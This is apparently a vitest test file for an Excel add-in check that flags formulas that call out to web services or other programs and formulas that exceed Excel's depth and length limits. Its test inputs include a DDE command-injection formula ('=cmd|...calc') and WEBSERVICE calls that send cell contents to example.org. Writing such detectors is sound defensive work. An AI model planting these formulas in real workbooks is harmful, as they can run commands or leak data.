import { describe, expect, it } from "vitest";
import { askingFunctions, notCalculated } from "../../addin/workbook/keptFormula.ts";

describe("a formula that must not be calculated", () => {
  it.each(askingFunctions)("asks another computer or program: %s", (name) => {
    expect(notCalculated(`=${name}("http://example.org/?"&A1)`)).toBe("asks");
    expect(notCalculated(`=1+${name.toLowerCase()} ( A1 )`)).toBe("asks");
  });

  // Microsoft, “LAMBDA function”: a function can be handed on by its name alone.
  it.each([
    "=LET(w,WEBSERVICE,w(A1))",
    "=MAP(A1:A3,_xlfn.WEBSERVICE)",
    "=cmd|'/c calc'!A0",
    '=SUM(1)+app|"topic"!x',
  ])("asks in another way: %s", (formula) => {
    expect(notCalculated(formula)).toBe("asks");
  });

  it.each([
    '="WEBSERVICE(1)"',
    "=Image[Bust]",
    "=Image!A1",
    "='WEBSERVICE'!A1",
    "=Figures[IMAGE]",
    "=MYIMAGE(1)",
    "=IMAGES",
    "=FIT.MATCH(Patterns[#All],Figures[#All])",
    '=HYPERLINK("http://example.org","see")',
    '=ENCODEURL("a b")',
  ])("does not ask: %s", (formula) => {
    expect(notCalculated(formula)).toBeUndefined();
  });

  // Microsoft, “Excel specifications and limits”: 8,192 characters, 64 levels of functions within one another.
  it("is longer or deeper than Excel allows, and no shorter", () => {
    const nested = (depth: number) => `=${"ABS(".repeat(depth)}1${")".repeat(depth)}`;
    expect([nested(64), nested(65)].map(notCalculated)).toEqual([undefined, "deep"]);
    const quoted = (length: number) => `="${"x".repeat(length - 2)}"`;
    expect([quoted(8192), quoted(8193)].map(notCalculated)).toEqual([undefined, "long"]);
    const terms = (count: number) => `=1${"+1".repeat(count)}`;
    expect([terms(1000), terms(1001)].map(notCalculated)).toEqual([undefined, "long"]);
  });
});
